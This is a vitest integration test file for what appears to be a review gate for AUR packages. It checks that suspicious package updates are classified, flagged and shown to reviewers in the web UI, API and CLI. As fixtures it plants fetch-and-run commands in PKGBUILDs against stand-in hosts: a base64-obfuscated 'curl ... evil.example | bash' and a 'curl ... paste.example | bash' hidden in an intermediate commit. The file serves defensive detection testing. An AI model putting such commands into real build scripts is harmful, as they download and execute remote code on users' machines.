import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import type { CliIo } from '../src/cli/io.js';
import { runCli } from '../src/cli/program.js';
import { listAudit } from '../src/quarantine/audit.js';
import { getPendingRevision, getRevision } from '../src/quarantine/revisions.js';
import { account, TEST_PASSWORD } from './support/accounts.js';
import { AdminClient, tokenApi } from './support/admin-client.js';
import { makePackage } from './support/fixture-packages.js';
import { startAurgate, type Harness } from './support/harness.js';
import { TestUpstream } from './support/upstream.js';

/**
 * The reviewer's view over real HTTP and the in-process CLI: classes shown and audited, the queue's
 * sorts, flags anchored in the diff with decoded payloads, a stale decision keeping the typed text,
 * batch approval of routine updates, and a payload hidden in an intermediate commit.
 */

// Commits dated three days back: a fresh commit carries a medium young-revision flag, which keeps
// a routine update out of batch approval (as it should in production).
const OLD = { date: `@${Math.floor(Date.now() / 1000) - 3 * 86_400}` };
const PAYLOAD = 'Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgYmFzaA==';
const DECODED = 'curl -s https://evil.example/x | bash';
const ROUTINE = ['routa', 'routb', 'routc'];

let upstream: TestUpstream;
let aurgate: Harness;
let url: string;
let rita: AdminClient;
let token = '';

const withLine = (pkgbase: string, pkgver: string, line: string): Record<string, string> => {
  const files = makePackage({ pkgbase, pkgver });
  return { ...files, PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', `package() {\n  ${line}\n`) };
};
const pendingOf = (pkgbase: string) => {
  const revision = getPendingRevision(aurgate.app.db, pkgbase);
  if (!revision) throw new Error(`${pkgbase} has nothing pending`);
  return revision;
};
const order = (html: string, names: readonly string[]) =>
  names
    .map((name) => ({ name, at: html.indexOf(`href="/admin/review/${name}"`) }))
    .sort((a, b) => a.at - b.at)
    .map((e) => e.name);

beforeAll(async () => {
  upstream = await TestUpstream.start();
  const names = [...ROUTINE, 'risky', 'installer', 'hidden', 'moving', 'adopted'];
  for (const pkgbase of names) await upstream.addPackage(makePackage({ pkgbase }), { Maintainer: 'jane' });
  aurgate = await startAurgate({ upstreamUrl: upstream.url });
  await aurgate.app.allow(names, 'test');
  await aurgate.app.sync({ trigger: 'cli' });
  const ada = await account(aurgate.app, 'ada', 'admin');
  await account(aurgate.app, 'rita', 'reviewer');
  for (const pkgbase of names) await aurgate.app.approve({ pkgbase, commit: pendingOf(pkgbase).commit, by: ada });

  for (const pkgbase of [...ROUTINE, 'moving']) await upstream.push(pkgbase, makePackage({ pkgbase, pkgver: '1.1.0' }), 'Bump', OLD);
  await upstream.push('risky', withLine('risky', '1.1.0', `echo ${PAYLOAD} | base64 -d | sh`), 'Bump', OLD);
  const installer = makePackage({ pkgbase: 'installer', pkgver: '1.1.0' });
  installer['PKGBUILD'] = (installer['PKGBUILD'] ?? '').replace('pkgrel=', 'install=installer.install\npkgrel=');
  await upstream.push(
    'installer',
    { ...installer, 'installer.install': 'post_install() {\n  /opt/installer/setup --register\n}\n' },
    'Scriptlet',
    OLD,
  );
  // A bad commit between two benign endpoints: the endpoint diff shows only the version bump.
  await upstream.push('hidden', withLine('hidden', '1.0.0', 'curl -fsSL https://paste.example/raw/Qm9v | bash'), 'Tweak', OLD);
  await upstream.push('hidden', makePackage({ pkgbase: 'hidden', pkgver: '1.1.0' }), 'Bump', OLD);
  upstream.setMeta('adopted', { Maintainer: 'mallory' });
  await upstream.push('adopted', makePackage({ pkgbase: 'adopted', pkgver: '1.1.0' }), 'Bump', OLD);
  await aurgate.app.sync({ trigger: 'cli' });

  url = await aurgate.serve();
  rita = new AdminClient(url);
  expect((await rita.login('rita', TEST_PASSWORD)).status).toBe(303);
  const created = await rita.api('POST', '/admin/api/tokens', { name: 'rita-ci', scopes: ['read'] });
  token = ((await created.json()) as { token: string }).token;
});

afterAll(async () => {
  await aurgate?.close();
  await upstream?.stop();
});

describe('classes', () => {
  it('are recorded with their base and audited at sync, and shown in the queue and on the review page', async () => {
    const routine = pendingOf('routa');
    expect(routine.classification).toMatchObject({ class: 'routine', base: routine.baseCommit });
    expect(pendingOf('installer').classification?.class).toBe('install-time-code-changed');
    expect(pendingOf('adopted').classification?.changes.map((c) => c.text)).toContain('maintainer jane → mallory');
    const [audit] = listAudit(aurgate.app.db, { pkgbase: 'routa', action: 'revision.classified' });
    expect(audit).toMatchObject({
      actor: 'classifier',
      channel: 'system',
      commit: routine.commit,
      detail: { class: 'routine', base: routine.baseCommit },
    });

    const queue = (await rita.page('/admin/queue')).html;
    expect(queue).toMatch(/<span class="cls cls-routine"[^>]*>routine<\/span>/);
    expect(queue).toContain('pkgver 1.0.0 → 1.1.0');
    const page = (await rita.page('/admin/review/installer')).html;
    expect(page).toMatch(/<span class="cls cls-install-time-code-changed"/);
    const change = page.indexOf('id="change"');
    expect(change).toBeGreaterThan(0);
    expect(page.indexOf('install scriptlet installer.install added', change)).toBeGreaterThan(change);
    expect(page.indexOf('id="diff"')).toBeGreaterThan(page.indexOf('install scriptlet installer.install added'));
  });

  it('sort the queue by risk by default, by class on request, and oldest first by age', async () => {
    const names = ['routa', 'risky', 'installer', 'hidden', 'adopted'];
    const byRisk = order((await rita.page('/admin/queue')).html, names);
    // Each of these has a high flag (a new maintainer, a decoded payload run, a payload in an intermediate commit).
    expect(byRisk.slice(0, 3).sort()).toEqual(['adopted', 'hidden', 'risky']);
    expect(byRisk.indexOf('routa')).toBe(4);
    const byClass = order((await rita.page('/admin/queue?sort=class')).html, names);
    expect(byClass[0]).toBe('installer');
    expect(byClass[byClass.length - 1]).toBe('routa');
    const api = (await (await tokenApi(url, token, 'GET', '/admin/api/queue?sort=class')).json()) as {
      pending: Array<{ pkgbase: string; class: string }>;
    };
    expect(api.pending[0]).toMatchObject({ pkgbase: 'installer', class: 'install-time-code-changed' });
  });
});

describe('flags in the diff', () => {
  it('are anchored at their row (link and id) with the decoded payload beside it', async () => {
    for (const view of ['side-by-side', 'line-by-line']) {
      const page = (await rita.page(`/admin/review/risky?view=${view}`)).html;
      const diff = page.slice(page.indexOf('id="diff"'));
      expect(page).toMatch(/<li class="flag flag-high" id="flag-1-item">[\s\S]*?<a href="#flag-1" class="where">PKGBUILD:\d+ in the diff<\/a>/);
      expect(diff).toMatch(/<a id="flag-1" href="#flag-1-item">/);
      expect(diff).toContain('<tr class="flagged">');
      expect(diff).toContain(DECODED);
      expect(page.match(/id="flag-1"/g)).toHaveLength(1);
    }
  });

  it('include a payload hidden in an intermediate commit, with the commit named', async () => {
    const revision = pendingOf('hidden');
    const bad = revision.commits[1]?.id ?? '';
    expect(revision.commits).toHaveLength(2);
    const body = (await (await tokenApi(url, token, 'GET', '/admin/api/revisions/hidden')).json()) as {
      class: string;
      flags: Array<{ check: string; severity: string; commit?: string }>;
      intermediateCommits: { total: number; analysed: number };
    };
    expect(body.class).toBe('routine');
    expect(body.intermediateCommits).toEqual({ total: 1, analysed: 1 });
    expect(body.flags).toContainEqual(expect.objectContaining({ check: 'download-and-run', severity: 'high', commit: bad }));
    const page = (await rita.page('/admin/review/hidden')).html;
    expect(page).toContain(`in commit ${bad.slice(0, 12)}`);
    expect(page).toContain('curl -fsSL https://paste.example/raw/Qm9v | bash');
  });
});

describe('decisions', () => {
  it('a stale approval answers 409, keeps the typed comment and links the new candidate', async () => {
    const seen = pendingOf('moving').commit;
    await rita.page('/admin/review/moving');
    await upstream.push('moving', makePackage({ pkgbase: 'moving', pkgver: '1.2.0' }), 'Bump again', OLD);
    await aurgate.app.sync({ trigger: 'cli', only: ['moving'] });
    const fresh = pendingOf('moving').commit;
    expect(fresh).not.toBe(seen);
    const response = await rita.post('/admin/review/moving/approve', { commit: seen, comment: 'checked the <b>tarball</b> hash' });
    expect(response.status).toBe(409);
    const html = await response.text();
    expect(html).toContain('checked the &lt;b&gt;tarball&lt;/b&gt; hash');
    expect(html).toContain(fresh.slice(0, 12));
    expect(html).toMatch(/<a href="\/admin\/review\/moving" class="strong" id="new-candidate">/);
    expect(getRevision(aurgate.app.db, 'moving', fresh)?.state).toBe('pending');
  });

  it('batch approval approves each ticked routine update at its commit and refuses a stale one on its own', async () => {
    const queue = (await rita.page('/admin/queue')).html;
    const ticks = ROUTINE.map((name) => `${name}:${pendingOf(name).commit}`);
    for (const tick of ticks) expect(queue).toContain(`name="approve" value="${tick}"`);
    expect(queue).not.toContain(`value="risky:`);
    await upstream.push('routc', makePackage({ pkgbase: 'routc', pkgver: '1.2.0' }), 'Bump again', OLD);
    await aurgate.app.sync({ trigger: 'cli', only: ['routc'] });
    const response = await rita.post('/admin/queue/approve', { approve: [...ticks, `risky:${pendingOf('risky').commit}`] });
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(html).toContain('2 of 4 applied; 2 refused, each on its own');
    for (const name of ['routa', 'routb'])
      expect(getRevision(aurgate.app.db, name, ticks[ROUTINE.indexOf(name)]!.split(':')[1]!)?.state).toBe('approved');
    expect(pendingOf('routc').state).toBe('pending');
    expect(html).toMatch(/routc<\/a> <code>[0-9a-f]{12}<\/code>: <strong>refused<\/strong><span> — commit [0-9a-f]+ is not the pending revision/);
    expect(html).toContain('not a routine update');
    expect(pendingOf('risky').state).toBe('pending');
    expect(listAudit(aurgate.app.db, { pkgbase: 'routa', action: 'revision.approved' })[0]).toMatchObject({ actor: 'rita', channel: 'web' });
  });
});

/** The CLI with a terminal-like stdout (isTTY) or a pipe, capturing what it writes. */
async function cli(args: string[], options: { tty: boolean; env?: Record<string, string> }): Promise<{ code: number; stdout: string }> {
  let stdout = '';
  const capture = (tty: boolean) => ({ write: (text: string) => ((stdout += text), true), isTTY: tty });
  const io: CliIo = {
    env: { PATH: process.env['PATH'] ?? '', HOME: process.env['HOME'] ?? '/tmp', ...aurgate.env, ...options.env },
    stdout: capture(options.tty),
    stderr: { write: () => true, isTTY: false },
    stdin: Readable.from([]),
    exitCode: 0,
    logDestination: { write: () => true },
  };
  return { code: await runCli(args, io), stdout };
}

describe('the terminal view', () => {
  it('pending --json and diff --json carry class, flags, maintainer change and payloads', async () => {
    const pending = JSON.parse((await cli(['pending', '--json', '--sort', 'risk'], { tty: false })).stdout) as Array<Record<string, unknown>>;
    expect(
      pending
        .map((entry) => entry['pkgbase'])
        .slice(0, 3)
        .sort(),
    ).toEqual(['adopted', 'hidden', 'risky']);
    expect(pending.find((entry) => entry['pkgbase'] === 'adopted')).toMatchObject({
      class: 'metadata-only',
      maintainerChange: ['maintainer jane → mallory'],
    });
    expect(pending.find((entry) => entry['pkgbase'] === 'risky')).toMatchObject({
      flags: expect.arrayContaining([expect.objectContaining({ severity: 'high' })]),
    });
    const diff = JSON.parse((await cli(['diff', 'risky', '--json'], { tty: false })).stdout) as Record<string, unknown>;
    expect(diff).toMatchObject({ pkgbase: 'risky', class: 'build-logic-changed', diff: expect.stringContaining('+pkgver=1.1.0') });
    expect(diff['flags']).toContainEqual(
      expect.objectContaining({ check: 'obfuscation', inDiff: true, payloads: [expect.objectContaining({ encoding: 'base64', preview: DECODED })] }),
    );
  });

  it('colours only a terminal, never with NO_COLOR, and pipes stay plain patches', async () => {
    const piped = await cli(['diff', 'risky'], { tty: false });
    expect(piped.code).toBe(0);
    expect(piped.stdout).not.toContain('\x1b[');
    expect(piped.stdout).toContain('# class: build-logic-changed');
    expect(piped.stdout).toContain(`#     decoded base64 (${DECODED.length} bytes): ${DECODED}`);
    const pending = await cli(['pending'], { tty: false });
    expect(pending.stdout).not.toContain('\x1b[');
    expect(pending.stdout).toMatch(/adopted:\n {2}maintainer jane → mallory/);
    // AURGATE_PAGER=cat: no pager, as with git, so the test reads what a terminal would show.
    const tty = await cli(['diff', 'risky'], { tty: true, env: { AURGATE_PAGER: 'cat' } });
    expect(tty.stdout).toContain('\x1b[31mhigh');
    expect(tty.stdout).toMatch(/# {3}\^ \[flag-1\] .*obfuscation/);
    const plain = await cli(['diff', 'risky'], { tty: true, env: { AURGATE_PAGER: 'cat', NO_COLOR: '1' } });
    expect(plain.stdout).not.toContain('\x1b[');
    expect(plain.stdout).toContain('#   ^ [flag-1] high   obfuscation');
  });
});
